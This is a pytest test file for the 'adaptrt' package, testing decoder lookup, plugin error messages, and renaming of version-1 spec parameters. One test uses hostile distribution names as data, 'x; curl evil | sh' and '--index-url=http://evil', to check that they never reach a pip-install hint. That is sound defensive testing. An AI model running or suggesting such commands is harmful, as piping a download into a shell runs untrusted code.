"""Decoders by name, and the parameters of specs that an earlier version wrote."""

import json
import re
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from adaptrt.errors import ModelError, PluginError, UsageError
from adaptrt.options import fill_options
from adaptrt.specs import DecoderSpec, InputSpec, ModelSpec, registry
from adaptrt.specs.decoders import DECODERS, Decoder, decoder_names, decoder_of, find_decoder, is_own, owner_of
from adaptrt.specs.installed import declaring_distributions
from adaptrt.specs.tasks import Task
from adaptrt.vision.decoders.raw import RawParams

external = Decoder("mine", RawParams, lambda outputs, metas, spec, params: [])
misnamed = Decoder("other", RawParams, lambda outputs, metas, spec, params: [])
OWN = ["boxes", "classify", "raw", "semantic", "yolo", "yolo_anchor"]


not_a_decoder = RawParams()
Declare = Callable[..., None]


@pytest.fixture
def declare(fake_distribution: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Declare:
    """Install these, beside core's own and no others: (decoder, distribution, object of this module)."""

    def give(*points: tuple[str, str, str]) -> None:
        made = [distribution for _, distribution, _ in points]
        monkeypatch.setattr(
            registry, "declaring_distributions", lambda: (one for one in declaring_distributions() if one[0] in made)
        )
        registry.forget_declared()
        monkeypatch.setitem(sys.modules, "declared_decoders", sys.modules[__name__])
        for name, distribution, value in points:
            target = value if ":" in value else f"declared_decoders:{value}"
            fake_distribution(distribution, {DECODERS.group: {name: target}})

    return give


@dataclass(frozen=True)
class Required:
    conf: float


@pytest.mark.parametrize(
    ("params", "decode", "said"),
    [
        (RawParams(), min, "Decoder.params must be a dataclass type; got RawParams()"),
        (int, min, "Decoder.params must be a dataclass type"),
        (Required, min, "Each parameter of a decoder needs a default; conf has none"),
        (RawParams, None, "Decoder.decode must be a function; got NoneType"),
    ],
)
def test_a_decoder_that_cannot_work_is_rejected_at_once(params: Any, decode: Any, said: str) -> None:
    with pytest.raises(TypeError) as caught:
        Decoder("mine", params, decode)
    assert said in str(caught.value)


@pytest.mark.parametrize(
    ("attributes", "said"),
    [
        ({"name": "x"}, "Mine.prediction must be a type; got None"),
        ({"prediction": int}, "Mine.name must be a str; got"),
    ],
)
def test_a_task_without_its_attributes(attributes: dict[str, Any], said: str) -> None:
    kind = type("Mine", (Task,), {"describe": lambda self, prediction: "", **attributes})
    with pytest.raises(TypeError) as caught:
        kind()
    assert said in str(caught.value)


@pytest.mark.parametrize("name", OWN)
def test_cores_own_decoders(name: str) -> None:
    decoder = find_decoder(name)
    assert decoder.name == name
    decoder.params()  # every parameter has a default
    assert decoder.params.__doc__
    assert name in decoder_names()
    assert is_own(name)


def test_a_distributions_decoder(declare: Declare) -> None:
    declare(("mine", "mine-dist", "external"), ("mine", "mine-dist", "external"))
    assert find_decoder("mine") is external
    assert "mine" in decoder_names()
    assert owner_of("mine") == "mine-dist 1.0"
    assert not is_own("mine")


@pytest.mark.parametrize(
    ("points", "name", "says"),
    [
        ([], "yollo", ["'yollo'", "Did you mean 'yolo'?"]),
        ([], "nothing_like_it", ["provides it. Available: box_masks, box_scores, boxes, classify"]),
        ([], "dense", ["pip install --no-deps adaptrt-mmdet"]),
        ([("mine", "a", "external"), ("mine", "b", "external")], "mine", ["a and by b"]),
        ([("yolo", "shadow", "external")], "yolo", ["adaptrt and by shadow", "pip uninstall shadow"]),
        ([("mine", "a", "misnamed")], "mine", ["not a Decoder with the name 'mine'", "of a", "is 'other'"]),
        ([("mine", "a", "not_a_decoder")], "mine", ["not a Decoder: it is of type RawParams"]),
        ([("mine", "a", "RawParams")], "mine", ["not a Decoder: it is the class RawParams"]),
        ([("mine", "a", "no_such_module:x")], "mine", ["of a", "ModuleNotFoundError"]),
    ],
)
def test_what_goes_wrong_is_named(
    declare: Declare, points: list[tuple[str, str, str]], name: str, says: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("adaptrt.specs.installed._clone", lambda: None)  # as installed from an index
    declare(*points)
    with pytest.raises(PluginError) as caught:
        find_decoder(name)
    for part in says:
        assert part in str(caught.value)


@pytest.mark.parametrize(
    ("distribution", "said"),
    [
        ("acme-heat", "acme-heat provides it; for prediction, pip install --no-deps acme-heat is sufficient."),
        ("x; curl evil | sh", None),  # a file says this name: nobody is told to paste it
        ("--index-url=http://evil", None),
        ("a\nb", None),
    ],
)
def test_the_distribution_that_the_file_names_is_reported(distribution: str, said: str | None) -> None:
    spec = ModelSpec((InputSpec.image(8, 8),), decoder=DecoderSpec("heat", {}, distribution))
    with pytest.raises(PluginError) as caught:
        decoder_of(spec)
    if said is None:
        assert distribution not in str(caught.value.hint)
    else:
        assert caught.value.hint == said


def read(decoder: dict[str, Any]) -> ModelSpec:
    """A spec of version 1 with this decoder."""
    now = json.loads(ModelSpec((InputSpec.image(8, 8),)).to_json())
    return ModelSpec.from_json(json.dumps({**now, "version": 1, "decoder": decoder}))


@pytest.mark.parametrize(
    ("name", "old", "now"),
    [
        ("boxes", {"nms": 0.5, "conf": 0.1}, {"iou": 0.5, "conf": 0.1}),
        ("boxes", {"nms": None}, {"iou": None}),
        ("yolo", {"iou": 0.45}, {"iou": 0.45}),
        ("classify", {"top_k": 3}, {"top_k": 3}),
        ("queries", {"nms": 0.5}, {"iou": 0.5}),
        ("dense", {"score_thr": 0.05, "iou": 0.6}, {"conf": 0.25, "iou": 0.6}),  # 0.25 was the default of conf
        ("dense", {"score_thr": 0.3}, {"conf": 0.3}),
        ("dense", {"score_thr": 0.05, "conf": 0.01}, {"conf": 0.05}),
    ],
)
def test_a_spec_of_version_1_is_read_with_the_names_of_then(
    name: str, old: dict[str, Any], now: dict[str, Any]
) -> None:
    if name in ("queries", "dense"):
        pytest.importorskip("adaptrt_mmdet")
    spec = read({"name": name, "params": old})
    assert spec.decoder == DecoderSpec(name, now)
    assert spec.version == ModelSpec.version == 2
    fill_options(decoder_of(spec).params, now)
    assert ModelSpec.from_json(spec.to_json()) == spec


def test_parameters_of_a_decoder_that_is_missing_stay_as_they_are() -> None:
    spec = read({"name": "elsewhere", "params": {"nms": 0.5}})
    assert spec.decoder == DecoderSpec("elsewhere", {"nms": 0.5})


def test_a_spec_of_version_1_with_nonsense_is_refused() -> None:
    pytest.importorskip("adaptrt_mmdet")
    with pytest.raises(ModelError, match="parameters of decoder 'dense'"):
        read({"name": "dense", "params": {"score_thr": "high"}})


@pytest.mark.parametrize(("name", "old", "now"), [("boxes", "nms", "iou"), ("dense", "score_thr", "conf")])
def test_an_old_name_of_a_parameter_is_an_error_with_the_new_one(name: str, old: str, now: str) -> None:
    if name == "dense":
        pytest.importorskip("adaptrt_mmdet")
    with pytest.raises(UsageError) as caught:
        fill_options(find_decoder(name).params, {old: 0.5})
    assert re.fullmatch(rf"{old} was renamed to {now}: --set {now}=\.\.\.", str(caught.value.hint))
